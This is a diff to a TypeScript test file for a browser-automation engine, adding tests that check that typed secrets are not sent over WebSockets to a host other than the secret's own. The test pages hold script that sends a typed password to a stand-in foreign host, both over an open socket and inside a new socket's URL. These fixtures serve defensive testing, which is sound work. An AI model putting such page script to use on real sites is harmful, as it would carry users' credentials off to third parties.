@@ -102,6 +102,16 @@ function expectNothingOf(told: Told, ...values: string[]) {
   }
 }
 
+/** Lets a site accept WebSockets; what comes by them, masked, follows their paths. */
+function acceptSockets(at: Site): string[] {
+  const got: string[] = [];
+  at.onSocket((path, socket) => {
+    got.push(path);
+    socket.on("data", (chunk) => got.push(chunk.toString("latin1")));
+  });
+  return got;
+}
+
 test("a typed secret reaches the site as it is, and no row in whatever way the page shows it", async () => {
   const told = await engine.run({ steps: [...login(site.url("/login")), list] });
   expect(told.failure).toBeUndefined();
@@ -304,6 +314,49 @@ describe("what the browser is about to send to another host", () => {
     expect(told.failure).toBeUndefined();
     expect(told.rows).toHaveLength(1);
     expect(received()).toBe("");
+  });
+
+  const open = (path: string, then: string) =>
+    `const socket = new WebSocket("ws://${other.host}${path}"); ${then}`;
+  const texts: Step = { type: "get_list", selector: "li", fields: [{ name: "text" }] };
+  /** A page that holds a WebSocket, which its button makes use of. */
+  const socketPage = (before: string, onPress: string) =>
+    `${input}<button>Go</button><ul><li>One</li></ul><script>
+      const value = () => document.querySelector("input").value; const end = () => document.body.append("done");
+      ${before}
+      document.querySelector("button").onclick = () => { ${onPress} };
+    </script>`;
+
+  test("by a WebSocket that was open before, ends the run and is not sent", async () => {
+    const sockets = acceptSockets(other);
+    site.setRoute("/page", socketPage(open("/log", "socket.onopen = end;"), "socket.send(value())"));
+    const [visit, ...rest] = login(site.url("/page"));
+    const told = await engine.run({ steps: [visit as Step, done, ...rest, ending] });
+    expect(told.failure).toMatchObject({ code: "secret_unavailable" });
+    expect(told.failure?.message).toContain(`The secret "password" was not sent to ${other.host}`);
+    expect(sockets).toEqual(["/log"]);
+    expectNothingOf(told, PASSWORD);
+  });
+
+  test("by a new WebSocket is not sent, and the run warns of it", async () => {
+    const sockets = acceptSockets(other);
+    const page = socketPage("", open("/log?", "socket.onerror = end;").replace('/log?"', '/log?" + value()'));
+    const told = await runOn(page, done, texts);
+    expect(told.failure).toBeUndefined();
+    expect(told.rows).toEqual([{ text: "One" }]);
+    expect(told.warnings).toMatchObject([{ code: "websocket_closed", step: null }]);
+    expect(told.warnings[0]?.message).toContain(`A WebSocket to ${other.host} was closed`);
+    expect(sockets).toEqual([]);
+    expectNothingOf(told, PASSWORD);
+  });
+
+  test("by a WebSocket to the secret's own host is sent", async () => {
+    const sockets = acceptSockets(site);
+    const script = open("/live", "socket.onopen = () => { socket.send(value()); end(); };");
+    const told = await runOn(socketPage("", script.replace(other.host, site.host)), done, texts);
+    expect(told).toMatchObject({ failure: undefined, warnings: [] });
+    expect(sockets[0]).toBe("/live");
+    expect(sockets).toHaveLength(2);
   });
 
   test("has no secret in it: it is sent", async () => {
